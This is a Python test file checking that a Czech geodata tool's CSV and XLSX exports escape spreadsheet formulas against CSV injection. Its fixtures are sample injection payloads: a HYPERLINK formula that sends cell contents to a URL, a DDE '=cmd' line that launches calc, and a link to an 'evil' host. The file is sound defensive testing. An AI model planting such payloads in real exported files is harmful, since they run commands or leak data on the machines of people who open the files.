"""Every CSV and XLSX the product writes is formula-safe (OWASP CSV injection)."""

from __future__ import annotations

import contextlib
import csv
import io as _stdio
import json
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
from shapely.geometry import Point

from apk_geo import cli, io
from apk_geo.errors import ParameterError
from apk_geo.testing import make_store

DANGEROUS = [
    '=HYPERLINK("http://example.com/?"&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
]
HARMLESS = ["-46900", "+420", "-1,5", "1e5", "Nádražní 5", "", "a=b"]


def table() -> pd.DataFrame:
    n = len(DANGEROUS) + len(HARMLESS)
    return pd.DataFrame(
        {
            "text": pd.Series(DANGEROUS + HARMLESS, dtype="str"),
            "number": np.arange(n, dtype=np.int64) - 3,  # negative numbers stay numbers
            "ratio": np.linspace(-1.5, 1.5, n),
            "=name": ["x"] * n,  # a header can be a formula too
        }
    )


def test_formula_safe_prefixes_text_cells_only() -> None:
    frame = table()
    safe = io.formula_safe(frame)
    assert safe["text"].tolist()[: len(DANGEROUS)] == ["'" + v for v in DANGEROUS]
    assert safe["text"].tolist()[len(DANGEROUS) :] == HARMLESS
    assert safe["number"].tolist() == frame["number"].tolist()
    assert safe["ratio"].tolist() == frame["ratio"].tolist()
    assert list(safe.columns) == ["text", "number", "ratio", "'=name"]
    assert frame["text"].iloc[0].startswith("=")  # the input is not changed
    assert set(io.FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


def test_write_table_csv_is_formula_safe(tmp_path: Path) -> None:
    out = io.write_table(table(), tmp_path / "t.csv", delimiter=";", encoding="utf-8-sig")
    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(_stdio.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == ["text", "number", "Poměr", "'=name"]  # known names get Czech headers
    cells = [r[0] for r in rows[1:]]
    assert cells[: len(DANGEROUS)] == ["'" + v for v in DANGEROUS]
    assert cells[len(DANGEROUS) :] == HARMLESS
    assert [r[1] for r in rows[1:4]] == ["-3", "-2", "-1"]


def test_write_table_xlsx_has_typed_cells_and_no_formula(tmp_path: Path) -> None:
    frame = table().assign(
        when=pd.date_range(
            "2026-03-29 01:30", periods=len(DANGEROUS) + len(HARMLESS), freq="h", tz="Europe/Prague"
        ),
    )
    frame.loc[2, "ratio"] = np.nan
    out = io.write_table(frame, tmp_path / "t.xlsx", private=True)
    assert out.stat().st_mode & 0o777 == 0o600
    ws = openpyxl.load_workbook(out).active
    assert ws is not None and ws.title == "data"
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == ["text", "number", "Poměr", "'=name", "when"]
    for r in rows[1:]:
        assert r[0].data_type in ("s", "inlineStr")  # text, never "f"
        assert r[1].data_type == "n" and isinstance(r[1].value, int)
    assert rows[1][0].value == "'" + DANGEROUS[0]
    assert rows[1][1].value == -3 and rows[3][2].value is None
    assert rows[1][4].value.isoformat() == "2026-03-29 01:30:00".replace(" ", "T")  # local wall
    assert not any(c.data_type == "f" for r in rows for c in r)


def test_table_bytes_are_what_write_table_writes(tmp_path: Path) -> None:
    frame = table()
    data = io.table_bytes(frame, delimiter=";", encoding="utf-8-sig")
    written = io.write_table(frame, tmp_path / "t.csv", delimiter=";", encoding="utf-8-sig")
    assert data == written.read_bytes() and data.startswith(b"\xef\xbb\xbftext;")
    xlsx = io.table_bytes(frame, fmt="xlsx")
    assert xlsx[:2] == b"PK"
    ws = openpyxl.load_workbook(_stdio.BytesIO(xlsx)).active
    assert ws is not None and ws["A2"].value == "'" + DANGEROUS[0]
    with pytest.raises(ParameterError, match="csv, xlsx; got 'ods'"):
        io.table_bytes(frame, fmt="ods")  # type: ignore[arg-type]


def test_layer_csv_is_formula_safe(tmp_path: Path) -> None:
    layer = gpd.GeoDataFrame(
        {"label": ["=cmd|' /C calc'!A0", "-1"]},
        geometry=[Point(-470000, -1100000), Point(-469000, -1100000)],
        crs="EPSG:5514",
    )
    data = io.layer_bytes(layer, suffix=".csv").decode("utf-8")
    assert data.splitlines()[1].startswith("'=cmd")
    assert data.splitlines()[2].startswith("-1;")  # Czech CSV: ; between fields


def test_quarantine_export_is_formula_safe_and_private(tmp_path: Path) -> None:
    store = make_store(
        tmp_path / "s.gpkg",
        [{"id": "1"}],
        quarantine=[
            {
                "source": "apk",
                "file": "x.csv",
                "line": 2,
                "field": "note",
                "value": '=HYPERLINK("http://evil")',
                "expected": "text",
                "reason": "note: got '=HYPERLINK(\"http://evil\")'",
                "raw": json.dumps({"Poznámka": "@SUM(1)"}),
            }
        ],
    )
    for name in ("q.csv", "q.xlsx"):
        out = tmp_path / name
        with contextlib.redirect_stdout(_stdio.StringIO()):
            code = cli.main(["quarantine", "--store", str(store.path), "--out", str(out)])
        assert code == 0 and out.stat().st_mode & 0o777 == 0o600
        if name.endswith(".csv"):
            rows = list(csv.DictReader(_stdio.StringIO(out.read_text("utf-8-sig")), delimiter=";"))
            cells = rows[0]
        else:
            ws = openpyxl.load_workbook(out).active
            assert ws is not None
            head = [c.value for c in ws[1]]
            cells = dict(zip(head, [c.value for c in ws[2]], strict=True))
        assert cells["Hodnota"] == '\'=HYPERLINK("http://evil")'  # Czech headers
        assert cells["Řádek"] in ("2", 2)
